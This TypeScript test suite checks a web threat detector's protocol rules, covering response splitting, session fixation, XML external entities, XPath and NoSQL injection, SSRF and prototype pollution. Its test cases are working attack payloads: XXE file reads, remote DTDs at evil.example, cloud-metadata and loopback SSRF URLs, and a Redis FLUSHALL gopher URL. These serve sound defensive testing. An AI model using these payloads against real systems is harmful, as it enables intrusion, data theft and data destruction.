import { describe, expect, it } from "@effect/vitest"
import { Effect } from "effect"
import type { ValueLocation } from "../../../src/internal/detection/families/contract.js"
import { family, RULES } from "../../../src/internal/detection/families/protocol/index.js"
import { ThreatDetector } from "../../../src/ThreatDetector.js"
import { PROTOCOL_SHAPES } from "./protocolShapes.js"
import { catalogueProblems, doublingRatio, ORDINARY_VALUES, repeated, rulesOf, scoreOf, THRESHOLD } from "./pathsHarness.js"

const refused = (value: string, location: ValueLocation = "query") => expect(scoreOf(family, value, location)).toBeGreaterThanOrEqual(THRESHOLD)
const passed = (value: string, location: ValueLocation = "query") => expect(scoreOf(family, value, location)).toBeLessThan(THRESHOLD)

describe("protocol family", () => {
  describe("HTTP response splitting", () => {
    it.each([
      ["a cookie header", "en\r\nSet-Cookie: admin=1"],
      ["a bare LF and a redirect", "x\nLocation: https://evil.example/"],
      ["a second response", "a\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html"],
      ["CJK characters that truncate to CR LF", "x\u560d\u560aSet-Cookie:a=1"]
    ])("refuses %s", (_, value) => refused(value))

    it("refuses a hijacking header in a body, but not a note that says Location:", () => {
      refused("thanks\r\nSet-Cookie: sid=attacker", "body")
      passed("Name: Bob\r\nLocation: Paris\r\nNotes: ring twice", "body")
    })

    it("scores a bare line break in a query only at level 2", () => {
      expect(rulesOf(family, "line one\nline two")).toEqual([])
      expect(rulesOf(family, "line one\nline two", "query", 2)).toEqual([RULES.bareNewline.id])
    })
  })

  describe("session fixation", () => {
    it.each(["JSESSIONID", "phpsessid", "ASP.NET_SessionId", "connect.sid", "laravel_session", "next-auth.session-token"])(
      "refuses a parameter named %s",
      (name) => refused(name, "key")
    )

    it.each([
      ["a rewritten URL", "/account;jsessionid=8F3A2B1C9D"],
      ["an id inside a redirect parameter", "https://app.example/login?PHPSESSID=attackerchosen"],
      ["a script that plants a cookie", "<script>document.cookie=\"sessionid=1234; domain=.example.com\"</script>"],
      ["a cookie with attributes", "x.cookie;expires=Thu, 01 Jan 2099"],
      ["a meta tag that sets a cookie", "<meta http-equiv=\"Set-Cookie\" content=\"sid=1\">"]
    ])("refuses %s", (_, value) => refused(value))

    it.each(["cfid", "cftoken", "zendsessionid", "aspsessionidqqgbtqbd"])("refuses the ColdFusion, Zend and classic ASP name %s", (name) =>
      refused(name, "key"))

    describe("through the detector", () => {
      const threat = (input: Parameters<ThreatDetector["Type"]["detect"]>[0]) =>
        Effect.map(Effect.flatMap(ThreatDetector.make({}), (d) => d.detect(input)), (r) => r.isThreat)

      it.effect("refuses a session id parameter without a Referer, or with another site's", () =>
        Effect.gen(function*() {
          expect(yield* threat({ path: "/login", query: "JSESSIONID=0a1b2c3d4e5f", headers: { host: "shop.example" } })).toBe(true)
          expect(yield* threat({ path: "/", query: "x=1&phpsessid=attacker", headers: { host: "shop.example", referer: "https://evil.example/shop.example" } })).toBe(true)
          expect(yield* threat({ path: "/", query: "cfid=1", headers: { host: "shop.example", referer: "https://shop.example.evil.example/" } })).toBe(true)
        }))

      it.effect("refuses a session id as a JSON key", () =>
        Effect.gen(function*() {
          expect(yield* threat({ path: "/api", headers: {}, body: { kind: "json", text: "{\"jsessionid\": \"chosen\"}" } })).toBe(true)
        }))

      it.effect("passes a session id in a URL the site itself linked (its own Referer), and in a cookie", () =>
        Effect.gen(function*() {
          const own = { host: "shop.example:8443", referer: "https://shop.example:8443/cart" }
          expect(yield* threat({ path: "/checkout", query: "jsessionid=0a1b2c3d4e5f", headers: own })).toBe(false)
          expect(yield* threat({ path: "/", headers: { host: "shop.example", cookie: "JSESSIONID=0a1b2c3d4e5f; PHPSESSID=9f8e7d" } })).toBe(false)
        }))
    })

    it("passes session cookies in a Cookie header and ordinary parameter names", () => {
      passed("PHPSESSID=abc123def456", "header")
      passed("sid", "key")
      passed("session", "key")
      passed("sessionStorage is per tab", "query")
    })
  })

  describe("XML", () => {
    it.each([
      ["an external entity", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>'],
      ["a parameter entity", '<!DOCTYPE r [<!ENTITY % d SYSTEM "http://evil.example/x.dtd"> %d;]>'],
      ["entity expansion", '<!DOCTYPE lol [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><lol>&b;</lol>'],
      ["an external DTD", '<!DOCTYPE r SYSTEM "http://evil.example/r.dtd"><r/>'],
      ["an XInclude", '<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/hostname"/></r>'],
      ["XSLT reading a file", '<xsl:stylesheet version="1.0"><xsl:copy-of select="document(\'/etc/hostname\')"/></xsl:stylesheet>']
    ])("refuses %s", (_, value) => refused(value, "body"))

    it.each([
      ["a node-name probe", "x' or name()='username' or 'x'='y"],
      ["a counting probe", "\" and count(//user[@role='admin'])>0 and \"a\"=\"a"]
    ])("refuses XPath injection: %s", (_, value) => refused(value))

    it("passes prose with the same words", () => passed("name the text or count them"))

    it.each([
      ["a DTD behind a UTF-7 declaration", '<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE r +AFs-+ADw-!ENTITY x SYSTEM +ACI-file:///etc/hostname+ACI-+AD4-+AF0-+AD4-'],
      ["markup spelled in UTF-16 read byte by byte", "<\u0000!\u0000E\u0000N\u0000T\u0000I\u0000T\u0000Y\u0000 \u0000%\u0000 \u0000x\u0000 \u0000S\u0000Y\u0000S\u0000T\u0000E\u0000M\u0000 \u0000\"\u0000h\u0000\"\u0000>\u0000"],
      ["an EBCDIC declaration", '<?xml version="1.0" encoding="IBM037"?><r/>'],
      ["a DTD inside a SOAP envelope", '<!DOCTYPE e [<!ATTLIST a b CDATA "c">]><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body/></soap:Envelope>'],
      ["parameter entity references", "%remote;%exfil;"],
      ["an external DTD by PUBLIC identifier", '<!DOCTYPE r PUBLIC "-//X//Y" "http://evil.example/r.dtd"><r/>'],
      ["a remote stylesheet import", '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="http://evil.example/x.xsl"/></xsl:stylesheet>'],
      ["an XML data island rendered as HTML", '<xml id="d"><x><![CDATA[<b>hi</b>]]></x></xml><span datasrc="#d" datafld="x" dataformatas="html"></span>'],
      ["an imported behaviour", '<html xmlns:b><?import namespace="b" implementation="//evil.example/b.htc"><b:x/></html>']
    ])("refuses %s", (_, value) => refused(value, "body"))

    it("refuses a UTF-16 declaration in a parameter, and in a body only at level 2", () => {
      refused('<?xml version="1.0" encoding="utf-16"?><r/>')
      passed('<?xml version="1.0" encoding="utf-16"?><r/>', "body")
      expect(rulesOf(family, '<?xml version="1.0" encoding="utf-16"?><r/>', "body", 2)).toEqual([RULES.xmlUtf16.id])
    })

    it("passes format strings and percentages that look like parameter entities", () => {
      passed("printf(\"%ld;%s\", n)")
      passed("50%off; today only")
      passed("%e5;", "body")
    })

    it("passes SOAP without a DTD, and UTF-8 and Latin-1 declarations", () => {
      passed('<?xml version="1.0" encoding="ISO-8859-1"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><m:GetPrice xmlns:m="urn:x"><m:Item>Apples &amp; pears</m:Item></m:GetPrice></soap:Body></soap:Envelope>', "body")
      passed("<span data-src=\"a.png\">data binding in prose: datasrc</span>", "body")
    })

    it("refuses an XML-RPC pingback, which makes the server fetch a URL; passes other XML-RPC calls", () => {
      const call = (method: string) =>
        `<?xml version="1.0"?><methodCall><methodName>${method}</methodName><params><param><value><string>http://evil.example/</string></value></param><param><value><string>https://blog.example/post</string></value></param></params></methodCall>`
      refused(call("pingback.ping"), "body")
      refused(call(" pingback.ping "), "body")
      passed(call("demo.sayHello"), "body")
      passed(call("blogger.getUsersBlogs"), "body")
      passed("our blog answers pingback.ping calls", "body")
    })

    it("passes an ordinary XML body and an XHTML doctype", () => {
      passed('<?xml version="1.0" encoding="UTF-8"?><order><id>42</id><note>rush</note></order>', "body")
      passed('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html></html>', "body")
    })
  })

  describe("SSRF", () => {
    it.each([
      ["the AWS metadata service", "http://169.254.169.254/latest/meta-data/iam/"],
      ["the GCP metadata name", "http://metadata.google.internal/computeMetadata/v1/"],
      ["metadata in decimal", "http://2852039166/"],
      ["metadata in hex", "http://0xA9FEA9FE/"],
      ["metadata in octal", "http://0251.0376.0251.0376/"],
      ["metadata IPv6-mapped", "http://[::ffff:a9fe:a9fe]/"],
      ["AWS IPv6 metadata", "http://[fd00:ec2::254]/latest/"],
      ["loopback", "http://127.0.0.1:6379/"],
      ["loopback in short form", "http://127.1/admin"],
      ["loopback without slashes", "http:127.0.0.1"],
      ["the unspecified address", "http://0.0.0.0:8080"],
      ["IPv6 loopback", "http://[::1]/"],
      ["localhost", "https://localhost/admin"],
      ["a container host", "http://host.docker.internal:2375/containers/json"],
      ["wildcard DNS to loopback", "http://127.0.0.1.nip.io/"],
      ["gopher to an internal service", "gopher://10.0.0.5:6379/_FLUSHALL"],
      ["dict", "dict://127.0.0.1:11211/stats"],
      ["a local file", "file:///etc/hostname"],
      ["a loopback host without a scheme", "localhost/admin"],
      ["an out-of-band callback", "http://x1y2z3.oastify.com/"],
      ["an ambiguous authority", "http://127.1.1.1:80\\@example.com/"],
      ["a loopback URL inside another", "https://redirect.example/?to=http://localhost:8080/"],
      ["a trusted name ending in loopback", "http://static.example.net.127.0.0.2"],
      ["a name ending in the metadata address", "https://cdn.example.org.169.254.169.254/latest/"],
      ["a name ending in a private address, with a port", "http://api.example.10.0.0.7:8080/"]
    ])("refuses %s", (_, value) => refused(value))

    it.each([
      ["an ordinary URL", "https://example.com/path?x=1&y=2"],
      ["an IP-like version", "v1.2.3"],
      ["a bare localhost name", "localhost"],
      ["prose about localhost", "run it at http://localhost:3000 and open the page"],
      ["a public IP", "http://93.184.216.34/"],
      ["a name ending in a public address", "https://example.com.93.184.216.34/"],
      ["a version in the path", "https://example.com/v1.127.0.0.1"],
      ["a name with numbered labels", "https://node-1.127.eu.example.com/"]
    ])("passes %s", (_, value) => passed(value))

    it("passes a development Referer and scores it at level 2", () => {
      passed("http://localhost:3000/dashboard", "header")
      expect(rulesOf(family, "http://localhost:3000/dashboard", "header", 2)).toContain(RULES.ssrfProse.id)
    })

    it("refuses a private address at level 2", () => {
      passed("http://10.1.2.3/internal")
      expect(scoreOf(family, "http://10.1.2.3/internal", "query", 2)).toBeGreaterThanOrEqual(THRESHOLD)
    })
  })

  describe("NoSQL injection", () => {
    it.each([
      ["an operator key", "$where", "key"],
      ["a bracketed operator", "password[$ne]", "key"],
      ["a nested bracketed operator", "user[0][$regex]", "key"]
    ] as const)("refuses %s", (_, value, location) => refused(value, location))

    it.each([
      ["operator syntax", "{\"$gt\": \"\"}"],
      ["bracket syntax", "[$ne]=1"],
      ["a $where clause", "', $where: 'sleep(1000)'"],
      ["a collection call", "db.users.find({})"],
      ["a field probe", "' && this.password.match(/^a/)//"],
      ["a return after a quote", "';return true;var x='"],
      ["a tautology", "|| 1==1"],
      ["a busy wait", "';sleep(5000);"]
    ])("refuses %s", (_, value) => refused(value))

    it("passes JSON Schema keywords and dollar amounts", () => {
      passed("$schema", "key")
      passed("$ref", "key")
      passed("$20 off")
      passed("it costs $ne 5")
      passed("function f(x) { return x; }", "body")
    })
  })

  describe("prototype pollution", () => {
    it.each([
      ["a key", "__proto__", "key"],
      ["a bracketed key", "a[__proto__][isAdmin]", "key"],
      ["a constructor path key", "constructor[prototype][isAdmin]", "key"],
      ["a dotted key", "constructor.prototype.polluted", "key"],
      ["a value with a path", "x.__proto__.isAdmin=true", "query"],
      ["a JSON fragment", "{\"__proto__\": {\"admin\": true}}", "body"],
      ["bracket access", "Object[\"constructor\"][\"prototype\"].x=1", "query"]
    ] as const)("refuses %s", (_, value, location) => refused(value, location))

    it("passes prose that mentions the word, and scores it at level 2", () => {
      passed("why __proto__ is deprecated")
      expect(rulesOf(family, "why __proto__ is deprecated", "query", 2)).toEqual([RULES.protoWord.id])
      passed("Array prototype methods")
    })
  })

  describe("catalogue and pre-filter", () => {
    it("gives every rule a stable protocol-NNN id and a detection category", () => {
      const categories = ["http_split", "session_fixation", "xml", "ssrf", "nosql", "proto_pollution"]
      expect(catalogueProblems(family, "protocol", categories)).toEqual([])
    })

    it("rejects ordinary values before scanning", () => {
      expect(ORDINARY_VALUES.filter(family.mayMatch)).toEqual([])
    })
  })

  describe("linear time", () => {
    it.each(PROTOCOL_SHAPES)("%s", (_, fragment) => {
      expect(doublingRatio(family, repeated(fragment))).toBeLessThan(2.5)
    })
  })
})
